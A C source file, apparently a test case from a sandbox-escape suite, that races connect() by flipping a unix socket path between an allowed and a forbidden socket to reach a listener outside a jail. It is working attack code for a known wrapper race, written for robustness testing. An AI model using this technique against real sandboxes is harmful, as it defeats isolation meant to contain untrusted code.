/* e0102-toctou-connect-unix - argument TOCTOU on connect(): a thread flips
 * the sockaddr between an allowed and a forbidden unix socket.
 *
 * Attack: the program listens on an allowed socket of its own; one thread
 * flips the sun_path of a sockaddr between that socket and a forbidden one
 * (a listener outside the jail that counts connections) while another
 * thread connects to whatever the sockaddr names.
 * Source: Watson 2007 (sockaddr races on connect in system call wrappers).
 * Usage: e0102-toctou-connect-unix ALLOWED-SOCKET FORBIDDEN-SOCKET */
#include <pthread.h>
#include <string.h>

#include "escape.h"

static struct sockaddr_un sa;
static const char *allowed, *forbidden;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(allowed) + 1, lf = strlen(forbidden) + 1;
	while (!stop) {
		memcpy(sa.sun_path, forbidden, lf);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
		memcpy(sa.sun_path, allowed, la);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0102-toctou-connect-unix ALLOWED-SOCKET FORBIDDEN-SOCKET");
	allowed = argv[1];
	forbidden = argv[2];
	struct esc_listener l;
	esc_listener_start(&l, allowed);
	esc_unix_addr(&sa, allowed);
	pthread_t tf;
	if (pthread_create(&tf, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	/* The whole sockaddr: the path's length changes under the call. */
	esc_race_connect_unix(&sa, sizeof sa, forbidden);
	stop = 1;
	esc_listener_stop(&l);
	pthread_join(tf, NULL);
	return 0;
}
